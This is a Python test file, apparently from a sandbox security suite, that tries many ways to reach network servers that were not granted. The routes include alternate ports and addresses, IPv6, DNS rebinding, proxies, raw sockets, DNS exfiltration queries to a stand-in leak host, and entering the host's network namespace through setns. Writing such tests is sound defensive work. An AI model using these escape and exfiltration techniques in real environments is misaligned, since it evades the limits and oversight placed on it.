"""Reaching servers that were not granted: by other ports, addresses, names and protocols.

The grants are net:127.0.0.1:{port} and net:{name}:{port}. All servers are canaries: they answer with a secret.
"""

import os
import socket
import struct

from registry import Held, call, claim, content, did, escape, tries

TIMEOUT = 1.5


def ask_tcp(host, port, family=socket.AF_INET, protocol=0):
    with socket.socket(family, socket.SOCK_STREAM, protocol) as s:
        s.settimeout(TIMEOUT)
        s.connect((host, int(port)))
        return content(s.recv(100))


def ask_udp(host, port, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(TIMEOUT / 5)
        s.sendto(b"ask", (host, int(port)))
        return content(s.recv(100))


@escape
def tcp_other_port(t):
    return ask_tcp("127.0.0.1", t["other_port"])


@escape
def tcp_other_port_by_name(t):
    return ask_tcp("localhost", t["other_port"])


@escape
def tcp_other_port_of_granted_name(t):
    return ask_tcp(t["name"], t["other_port"])


@escape
def tcp_other_port_by_zero(t):
    """0.0.0.0 means this machine."""
    return ask_tcp("0.0.0.0", t["other_port"])


@escape
def tcp_ipv6(t):
    return ask_tcp("::1", t["other_port"], socket.AF_INET6)


@escape
def tcp_ipv4_in_ipv6(t):
    return ask_tcp("::ffff:127.0.0.1", t["other_port"], socket.AF_INET6)


@escape
def tcp_granted_port_over_ipv6(t):
    return ask_tcp("::1", t["port"], socket.AF_INET6)


@escape
def tcp_granted_port_of_loopback_neighbour(t):
    return ask_tcp("127.0.0.2", t["port"])


@escape
def tcp_granted_port_of_other_host(t):
    return ask_tcp(t["other_host"], t["port"])


@escape
def tcp_granted_port_of_other_host_over_ipv6(t):
    return ask_tcp(t["other_host6"], t["port"], socket.AF_INET6)


@escape
def tcp_granted_port_of_forbidden_name(t):
    return ask_tcp(t["forbidden_name"], t["port"])


@escape
def tcp_name_that_rebinds(t):
    """A granted name whose owner lets it resolve to loopback."""
    return ask_tcp(t["rebinding_name"], t["port"])


@escape
def tcp_multipath(t):
    return ask_tcp("127.0.0.1", t["other_port"], protocol=262)


@escape
def tcp_fast_open(t):
    """The first packet carries data, without a call of connect."""
    with socket.socket() as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVTIMEO, struct.pack("ll", 1, 0))
        s.sendto(b"ask", socket.MSG_FASTOPEN, ("127.0.0.1", int(t["other_port"])))
        return content(s.recv(100))


@escape
def tcp_through_proxy(t):
    """If the host offers a proxy inside, it must enforce the grants."""
    def through(port, wanted):
        with socket.create_connection(("127.0.0.1", port), TIMEOUT) as s:
            s.sendall(f"CONNECT {wanted} HTTP/1.1\r\nHost: {wanted}\r\n\r\n".encode())
            return content(s.recv(100) + s.recv(100))

    wanted = [f"127.0.0.1:{t['other_port']}", f"{t['other_host']}:{t['port']}", f"{t['name']}:{t['other_port']}"]
    return tries([lambda p=p, w=w: through(p, w) for p in (3128, 8080, 1080) for w in wanted])


@escape
def tcp_stand_in_addresses(t):
    """Addresses that stand for granted names inside; none may stand for anything else."""
    return tries([lambda n=n: ask_tcp(f"198.18.0.{n}", t["other_port"]) for n in range(8)])


@escape
def tcp_listen(t):
    """Accepting a connection is also a way out."""
    with socket.socket() as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("127.0.0.1", int(t["listen_port"])))
        s.listen()
        s.settimeout(TIMEOUT)
        return content(s.accept()[0].recv(100))


@escape
def udp(t):
    return ask_udp("127.0.0.1", t["udp_port"])


@escape
def udp_granted_port(t):
    """Only TCP is granted."""
    return ask_udp("127.0.0.1", t["port"])


@escape
def udp_ipv6(t):
    return ask_udp("::1", t["udp_port"], socket.AF_INET6)


@escape
def udp_other_host(t):
    return ask_udp(t["other_host"], t["udp_port"])


def question(name, kind):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", kind, 1)


@escape
def dns_server(t):
    """A name server other than the host's own is just another UDP server."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(TIMEOUT / 5)
        s.sendto(question("text.test", 16), ("127.0.0.1", 53))
        return content(s.recv(512))


@escape
def dns_server_over_tcp(t):
    with socket.create_connection(("127.0.0.1", 53), TIMEOUT) as s:
        query = question("text.test", 16)
        s.sendall(struct.pack(">H", len(query)) + query)
        return content(s.recv(512))


@escape
def dns_exfiltration(t):
    """The query itself carries the message, so it must not be forwarded."""
    try:
        socket.getaddrinfo(f"{t['stray']}.leak.test", 80)
    except socket.gaierror:
        pass
    return did("asked")


@escape
def dns_exfiltration_below_granted_name(t):
    try:
        socket.getaddrinfo(f"{t['stray']}.{t['name']}", 80)
    except socket.gaierror:
        pass
    return did("asked")


@escape
def dns_exfiltration_by_record_type(t):
    """Directly to the name server, with a query type that it need not know."""
    with open("/etc/resolv.conf") as file:
        servers = [line.split()[1] for line in file if line.startswith("nameserver")]
    for kind in (16, 15, 65, 255):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(TIMEOUT / 10)
            s.sendto(question(f"{t['stray']}.leak.test", kind), (servers[0], 53))
            try:
                s.recv(512)
            except OSError:
                pass
    return did("asked")


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


@escape
def raw_icmp(t):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as s:
        s.settimeout(TIMEOUT / 5)
        body = t["stray"].encode().ljust(32)
        s.sendto(struct.pack(">BBHHH", 8, 0, checksum(struct.pack(">4H", 0x800, 0, 7, 7) + body), 7, 7) + body, (t["other_host"], 0))
        if not s.recv(200):
            raise Held("no answer")
        return claim("an echo of the other host")


@escape
def ping_socket(t):
    """ICMP without privileges, if the system allows it for groups."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
        s.settimeout(TIMEOUT / 5)
        s.sendto(struct.pack(">BBHHH", 8, 0, 0, 0, 7), (t["other_host"], 0))
        s.recv(200)
        return claim("an echo of the other host")


@escape
def raw_udp(t):
    """A UDP packet with a header built by the attempt."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as s:
        s.sendto(struct.pack(">4H", 9, int(t["udp_port"]), 8 + len(t["stray"]), 0) + t["stray"].encode(), ("127.0.0.1", 0))
    return did("sent")


@escape
def raw_ipv6(t):
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_UDP) as s:
        packet = struct.pack(">4H", 9, int(t["udp_port"]), 8 + len(t["stray"]), 0) + t["stray"].encode()
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_CHECKSUM, 6)
        s.sendto(packet, ("::1", 0))
    return did("sent")


@escape
def see_interfaces(t):
    return content(" ".join(name for _, name in socket.if_nameindex()))


@escape
def see_interfaces_in_proc(t):
    with open("/proc/net/dev") as file:
        return content(file.read())


@escape
def see_listening_sockets(t):
    """The host's own servers, in the kernel's table."""
    with open("/proc/net/tcp") as file:
        if f":{int(t['other_port']):04X} " not in file.read():
            raise Held("the host's ports are not in it")
    return claim("the host's ports are seen")


@escape
def see_abstract_names(t):
    with open("/proc/net/unix") as file:
        return content(file.read())


def enter_network(t, pid):
    fd = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
    call("setns", fd, 0x40000000)
    return ask_tcp("127.0.0.1", t["other_port"])


@escape
def enter_network_of_host(t):
    """The namespace is a file, and a process with the right may enter it."""
    return enter_network(t, t["host_pid"])


@escape
def enter_network_of_init(t):
    return enter_network(t, 1)
